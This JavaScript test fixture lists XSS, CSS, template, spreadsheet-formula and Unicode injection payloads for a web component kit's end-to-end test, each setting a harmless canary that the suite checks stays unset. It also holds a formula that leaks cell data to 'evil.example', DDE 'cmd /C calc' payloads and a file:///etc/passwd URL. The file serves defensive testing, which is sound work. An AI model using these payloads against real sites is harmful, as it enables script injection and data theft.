// Injection payloads for e2e 30-injection. Every one that could run code sets the canary
// `window.__pwned`; the suite checks it stays undefined. `markupRaw: true` marks payloads whose
// point is an HTML character reference: in light-DOM markup they go into attribute values
// unescaped, so the browser's parser decodes them before the kit reads them.
const CANARY = 'window.__pwned=1';
const b64 = (s) => Buffer.from(s).toString('base64');

export const PAYLOADS = [
  // Script tags
  { kind: 'script', value: `<script>${CANARY}</script>` },
  { kind: 'script', value: `<ScRiPt>${CANARY}</ScRiPt>` },
  { kind: 'script', value: `<script src="data:text/javascript,${CANARY}"></script>` },
  { kind: 'script', value: `"><script>${CANARY}</script>` },
  { kind: 'script', value: `'><script>${CANARY}</script>` },
  { kind: 'script', value: `</title></textarea></style><script>${CANARY}</script>` },
  { kind: 'script', value: `<scr<script>ipt>${CANARY}</scr</script>ipt>` },
  { kind: 'script', value: `<!--<img src="--><img src=x onerror="${CANARY}">` },
  { kind: 'script', value: `<noscript><p title="</noscript><img src=x onerror=${CANARY}>">` },
  { kind: 'script', value: `<template><img src=x onerror="${CANARY}"></template>` },
  // Event-handler attributes
  { kind: 'handler', value: `<img src=x onerror="${CANARY}">` },
  { kind: 'handler', value: `<img src=x onerror=${CANARY}//` },
  { kind: 'handler', value: `<svg onload="${CANARY}">` },
  { kind: 'handler', value: `<body onload="${CANARY}">` },
  { kind: 'handler', value: `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>` },
  { kind: 'handler', value: `<details open ontoggle="${CANARY}">` },
  { kind: 'handler', value: `<input autofocus onfocus="${CANARY}">` },
  { kind: 'handler', value: `" onmouseover="${CANARY}" autofocus onfocus="${CANARY}" x="` },
  { kind: 'handler', value: `' onfocus='${CANARY}' autofocus x='` },
  { kind: 'handler', value: `<a href="javascript:${CANARY}">click</a>` },
  { kind: 'handler', value: `<video><source onerror="${CANARY}"></video>` },
  { kind: 'handler', value: `<object data="javascript:${CANARY}"></object>` },
  // javascript:, data:, vbscript: and other schemes, plain and obfuscated
  { kind: 'url', value: `javascript:${CANARY}` },
  { kind: 'url', value: `JaVaScRiPt:${CANARY}` },
  { kind: 'url', value: `  javascript:${CANARY}  ` },
  { kind: 'url', value: `\tjava\tscript:${CANARY}` },
  { kind: 'url', value: `java\nscript:${CANARY}` },
  { kind: 'url', value: `java\rscript:${CANARY}` },
  { kind: 'url', value: `\u0001\u0010javascript:${CANARY}` },
  { kind: 'url', value: `\u0000javascript:${CANARY}` },
  { kind: 'url', value: `java\u0000script:${CANARY}` },
  { kind: 'url', value: `javascript://%0A${CANARY}` },
  { kind: 'url', value: `javascript:%77indow.__pwned=1` },
  { kind: 'url', value: `&#106;avascript:${CANARY}`, markupRaw: true },
  { kind: 'url', value: `&#x6A;&#x61;&#x76;&#x61;script:${CANARY}`, markupRaw: true },
  { kind: 'url', value: `javascript&colon;${CANARY}`, markupRaw: true },
  { kind: 'url', value: `jav&#x09;ascript:${CANARY}`, markupRaw: true },
  { kind: 'url', value: `&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${CANARY}`, markupRaw: true },
  { kind: 'url', value: `data:text/html,<script>${CANARY}</script>` },
  { kind: 'url', value: `data:text/html;base64,${b64(`<script>parent.__pwned=1</script>`)}` },
  { kind: 'url', value: `DATA:text/html,<script>${CANARY}</script>` },
  { kind: 'url', value: `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${CANARY}"/>` },
  { kind: 'url', value: `data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${CANARY}"/>`)}` },
  { kind: 'url', value: `data:image/png;base64,iVBORw0KGgo=" onerror="${CANARY}` },
  { kind: 'url', value: `data:application/javascript,${CANARY}` },
  { kind: 'url', value: `vbscript:msgbox("pwned")` },
  { kind: 'url', value: `VbScRiPt:${CANARY}` },
  { kind: 'url', value: `livescript:${CANARY}` },
  { kind: 'url', value: `file:///etc/passwd` },
  { kind: 'url', value: `blob:http://127.0.0.1/00000000-0000-0000-0000-000000000000` },
  { kind: 'url', value: `filesystem:http://127.0.0.1/temporary/x` },
  { kind: 'url', value: `https://example.org/"><img src=x onerror="${CANARY}">` },
  { kind: 'url', value: `mailto:a@example.org?body=<script>${CANARY}</script>` },
  { kind: 'url', value: `\u202Ejavascript:${CANARY}` },
  { kind: 'url', value: `\uFEFFjavascript:${CANARY}` },
  // SVG and MathML
  { kind: 'svg', value: `<svg><script>${CANARY}</script></svg>` },
  { kind: 'svg', value: `<svg><animate onbegin="${CANARY}" attributeName="x" dur="1s"></animate></svg>` },
  { kind: 'svg', value: `<svg><a xlink:href="javascript:${CANARY}"><text x="20" y="20">x</text></a></svg>` },
  { kind: 'svg', value: `<svg><foreignObject><img src=x onerror="${CANARY}"></foreignObject></svg>` },
  { kind: 'svg', value: `<svg><set attributeName="onmouseover" to="${CANARY}"/></svg>` },
  { kind: 'svg', value: `<svg><use href="data:image/svg+xml;base64,${b64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="${CANARY}"/></svg>`)}#x"/></svg>` },
  { kind: 'mathml', value: `<math><mtext><table><mglyph><style><img src=x onerror="${CANARY}">` },
  { kind: 'mathml', value: `<math href="javascript:${CANARY}"><mi>x</mi></math>` },
  { kind: 'mathml', value: `<math><maction actiontype="statusline" xlink:href="javascript:${CANARY}">x</maction></math>` },
  // CSS injection
  { kind: 'css', value: `</style><style>*{display:none!important}</style><img src=x onerror="${CANARY}">` },
  { kind: 'css', value: `x{}*{background:url(javascript:${CANARY})}` },
  { kind: 'css', value: `expression(${CANARY})` },
  { kind: 'css', value: `url(javascript:${CANARY})` },
  { kind: 'css', value: `red;background-image:url("javascript:${CANARY}")` },
  { kind: 'css', value: `@import "javascript:${CANARY}";` },
  { kind: 'css', value: `};--_text:red;--_bg:url(x);x{` },
  { kind: 'css', value: `"]:host{display:none} [x="` },
  // Spreadsheet formulas (the map's CSV download)
  { kind: 'formula', value: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")' },
  { kind: 'formula', value: `+cmd|' /C calc'!A0` },
  { kind: 'formula', value: `-2+3+cmd|' /C calc'!A0` },
  { kind: 'formula', value: `@SUM(1+1)*cmd|' /C calc'!A0` },
  { kind: 'formula', value: '\t=1+1' },
  { kind: 'formula', value: '\r=1+1' },
  // Templates and code-looking text
  { kind: 'template', value: '${window.__pwned=1}' },
  { kind: 'template', value: `{{constructor.constructor('${CANARY}')()}}` },
  { kind: 'template', value: `{metric}{name}{count}{{detail}}` },
  { kind: 'template', value: `__proto__` },
  { kind: 'template', value: `constructor` },
  { kind: 'template', value: `toString` },
  // Overlong strings (time-boxed; must not break the page's layout)
  { kind: 'overlong', value: 'A'.repeat(100_000) },
  { kind: 'overlong', value: `<img src=x onerror="${CANARY}">`.repeat(2600) },
  { kind: 'overlong', value: `https://example.org/${'a'.repeat(100_000)}` },
  { kind: 'overlong', value: 'W'.repeat(290) },
  { kind: 'overlong', value: `Z${'\u0336'.repeat(280)}` },
  // Bidirectional overrides, control characters, broken Unicode
  { kind: 'bidi', value: '\u202Egnp.exe' },
  { kind: 'bidi', value: 'Partner \u202Dforced ltr' },
  { kind: 'bidi', value: '\u202BEmbedded \u202Arun' },
  { kind: 'bidi', value: 'abc\u2067isolate without end' },
  { kind: 'bidi', value: 'x\u2069\u2069\u202C\u202C unmatched closers' },
  { kind: 'control', value: `name\u0000<script>${CANARY}</script>` },
  { kind: 'control', value: 'bell\u0007back\u0008esc\u001B[31m' },
  { kind: 'control', value: 'line\nbreak\r\nand\ttab' },
  { kind: 'control', value: 'lone \uD800 surrogate' },
  { kind: 'control', value: '👩‍👩‍👧‍👦'.repeat(40) },
];

/** Inserts a text value into HTML (text content or a quoted attribute value). */
export function escapeHtml(value) {
  return String(value).replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&#39;');
}

/** For light-DOM attribute values: character-reference payloads go in undecoded. */
export function attr(payload, value = payload.value) {
  return payload.markupRaw ? value : escapeHtml(value);
}

/** JSON that is safe inside `<script type="application/json">` (as a server should write it). */
export function scriptJson(data) {
  return JSON.stringify(data).replace(/</g, '\\u003c').replace(/\u2028/g, '\\u2028').replace(/\u2029/g, '\\u2029');
}

/** One CSV field, quoted as RFC 4180 says. */
export function csvField(value) {
  const s = String(value ?? '');
  return /[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}
